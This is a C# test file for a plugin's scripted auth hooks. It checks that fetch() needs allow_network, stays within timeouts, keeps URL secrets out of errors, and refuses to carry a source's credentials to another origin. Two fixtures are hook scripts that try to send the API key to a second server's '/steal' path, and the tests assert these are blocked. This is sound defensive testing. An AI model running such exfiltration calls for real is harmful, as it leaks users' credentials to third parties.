namespace Helr.Plugins.Generic.Tests.Hooks;

/// <summary><c>fetch()</c>: only with <c>allow_network</c>, through the source's sender, never carrying credentials elsewhere.</summary>
public class HookFetchTests
{
    private const string Network = "hooks: { enabled: true, timeout_secs: 10, allow_network: true }";

    [Fact]
    public async Task Fetch_is_refused_when_the_network_is_not_allowed()
    {
        await using var api = await FakeVendorServer.StartAsync();
        api.OnGet("/logs", _ => FakeResponse.Json("[]"));
        using var harness = HookHarness.Create($"url: {api.Url("/logs")}",
            $$"""async function getAuth(ctx) { await fetch("{{api.Url("/login")}}"); return null; }""", api);

        var cycle = await harness.RunCycleAsync();

        Assert.StartsWith("hook getAuth in script_inline failed: fetch is not allowed: set global.hooks.allow_network: true to let hooks make requests", cycle.Error);
        Assert.Empty(cycle.Requests);
    }

    [Fact]
    public async Task Fetch_of_a_url_it_cannot_send_names_its_kind_but_not_its_secrets()
    {
        await using var api = await FakeVendorServer.StartAsync();
        api.OnGet("/logs", _ => FakeResponse.Json("[]"));
        using var harness = HookHarness.Create($"url: {api.Url("/logs")}",
            """async function getAuth(ctx) { await fetch("ftp://helr:pw-4417@idp.example.com/t?token=tk-9931"); return null; }""", api, Network);

        var cycle = await harness.RunCycleAsync();

        Assert.StartsWith("hook getAuth in script_inline failed: fetch needs an absolute http(s) URL, got a ftp: URL", cycle.Error);
        Assert.DoesNotContain("pw-4417", cycle.Error);
        Assert.DoesNotContain("tk-9931", cycle.Error);
        Assert.DoesNotContain(cycle.Log, l => l.Contains("tk-9931", StringComparison.Ordinal) || l.Contains("pw-4417", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Fetch_goes_through_the_sources_sender_with_its_credentials_on_its_own_origin()
    {
        await using var api = await FakeVendorServer.StartAsync();
        api.OnPost("/login", r => FakeResponse.Json($$"""{"echo":{{r.Body}}}""").WithHeader("Set-Cookie", "session=s1; Path=/; HttpOnly"));
        api.OnGet("/logs", _ => FakeResponse.Json("""[{"id":"a"}]"""));
        using var harness = HookHarness.Create($"""
            url: {api.Url("/logs")}
            auth:
              type: bearer
              token_env: API_TOKEN
            """, $$"""
            async function getAuth(ctx) {
              var res = await fetch("{{api.Url("/login")}}", { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ code: "pat" }) });
              var body = await res.json();
              if (!res.ok || body.echo.code !== "pat") throw new Error("login failed " + res.status);
              return { cookie: res.headers.get("Set-Cookie").split(";")[0] };
            }
            """, api, Network, new Support.FakeEnvironment());

        var cycle = await harness.RunCycleAsync();

        Assert.Null(cycle.Error);
        var login = cycle.Requests.Single(r => r.Path == "/login");
        Assert.Equal("Bearer tok", login.Header("Authorization"));
        Assert.StartsWith("application/json", login.Header("Content-Type"));
        Assert.Equal("session=s1", cycle.Requests.Single(r => r.Path == "/logs").Header("Cookie"));
    }

    [Fact]
    public async Task Fetch_to_another_origin_is_refused_for_a_source_with_credentials()
    {
        await using var api = await FakeVendorServer.StartAsync();
        await using var elsewhere = await FakeVendorServer.StartAsync();
        api.OnGet("/logs", _ => FakeResponse.Json("[]"));
        elsewhere.OnGet("/steal", _ => FakeResponse.Json("{}"));
        using var harness = HookHarness.Create($"""
            url: {api.Url("/logs")}
            auth:
              type: bearer
              token_env: API_TOKEN
            """, $$"""async function getAuth(ctx) { await fetch("{{elsewhere.Url("/steal")}}"); return null; }""", api, Network, new Support.FakeEnvironment());

        var cycle = await harness.RunCycleAsync();

        Assert.NotNull(cycle.Error);
        Assert.StartsWith("hook getAuth in script_inline failed: fetch " + elsewhere.Url("/steal") + " failed: not sending the source's credentials to ", cycle.Error);
        Assert.Empty(elsewhere.Requests);
    }

    [Fact]
    public async Task Fetch_to_another_origin_with_the_scripts_own_headers_is_sent_for_a_source_without_auth()
    {
        await using var api = await FakeVendorServer.StartAsync();
        await using var idp = await FakeVendorServer.StartAsync();
        api.OnGet("/logs", _ => FakeResponse.Json("""[{"id":"a"}]"""));
        idp.OnPost("/token", _ => FakeResponse.Json("""{"access_token":"at-5521-fresh"}"""));
        using var harness = HookHarness.Create($"""
            url: {api.Url("/logs")}
            headers:
              X-Api-Key: key-7781-secret
            """, $$"""
            async function getAuth(ctx) {
              var res = await fetch("{{idp.Url("/token")}}", { method: "POST", headers: { "Authorization": "Basic aWRwLXVzZXI6aWRwLXBhc3M=", "X-Client": "helr" }, body: "grant_type=client_credentials" });
              if (!res.ok) throw new Error("login failed " + res.status);
              return { headers: { "Authorization": "Bearer " + (await res.json()).access_token } };
            }
            """, api, Network);

        var cycle = await harness.RunCycleAsync();

        Assert.Null(cycle.Error);
        var login = idp.Requests.Single();
        Assert.Equal("Basic aWRwLXVzZXI6aWRwLXBhc3M=", login.Header("Authorization"));
        Assert.Equal("helr", login.Header("X-Client"));
        // The source's configured header stays on its own origin.
        Assert.Null(login.Header("X-Api-Key"));
        var page = api.Requests.Single(r => r.Path == "/logs");
        Assert.Equal("Bearer at-5521-fresh", page.Header("Authorization"));
        Assert.Equal("key-7781-secret", page.Header("X-Api-Key"));
    }

    [Fact]
    public async Task Fetch_carrying_the_sources_configured_header_to_another_origin_is_refused()
    {
        await using var api = await FakeVendorServer.StartAsync();
        await using var elsewhere = await FakeVendorServer.StartAsync();
        api.OnGet("/logs", _ => FakeResponse.Json("[]"));
        elsewhere.OnGet("/steal", _ => FakeResponse.Json("{}"));
        using var harness = HookHarness.Create($"""
            url: {api.Url("/logs")}
            headers:
              X-Api-Key: key-7781-secret
            """, $$"""
            async function getAuth(ctx) {
              await fetch("{{elsewhere.Url("/steal")}}", { headers: { "X-Api-Key": ctx.headers["X-Api-Key"] } });
              return null;
            }
            """, api, Network);

        var cycle = await harness.RunCycleAsync();

        Assert.StartsWith("hook getAuth in script_inline failed: fetch " + elsewhere.Url("/steal") + " failed: not sending the source's credentials to ", cycle.Error);
        Assert.Empty(elsewhere.Requests);
    }

    [Fact]
    public async Task A_failed_fetch_names_its_url_without_the_user_info()
    {
        await using var api = await FakeVendorServer.StartAsync();
        await using var elsewhere = await FakeVendorServer.StartAsync();
        api.OnGet("/logs", _ => FakeResponse.Json("[]"));
        var withPassword = elsewhere.Url("/login").Replace("://", "://helr:pw-4417@", StringComparison.Ordinal);
        using var harness = HookHarness.Create($"""
            url: {api.Url("/logs")}
            auth:
              type: bearer
              token_env: API_TOKEN
            """, $$"""async function getAuth(ctx) { await fetch("{{withPassword}}"); return null; }""", api, Network, new Support.FakeEnvironment());

        var cycle = await harness.RunCycleAsync();

        Assert.StartsWith("hook getAuth in script_inline failed: fetch " + elsewhere.Url("/login") + " failed: ", cycle.Error);
        Assert.DoesNotContain("pw-4417", cycle.Error);
    }

    [Fact]
    public async Task A_slow_fetch_is_bounded_by_the_hook_timeout()
    {
        await using var api = await FakeVendorServer.StartAsync();
        api.OnGet("/logs", _ => FakeResponse.Json("[]"));
        api.OnGet("/slow", _ => FakeResponse.Json("{}") with { Delay = TimeSpan.FromSeconds(30) });
        using var harness = HookHarness.Create($"url: {api.Url("/logs")}",
            $$"""async function getAuth(ctx) { await fetch("{{api.Url("/slow")}}"); return null; }""", api,
            "hooks: { enabled: true, timeout_secs: 1, allow_network: true }");

        var cycle = await harness.RunCycleAsync();

        Assert.Equal("hook getAuth in script_inline timed out after 1 s (global.hooks.timeout_secs)", cycle.Error);
    }
}
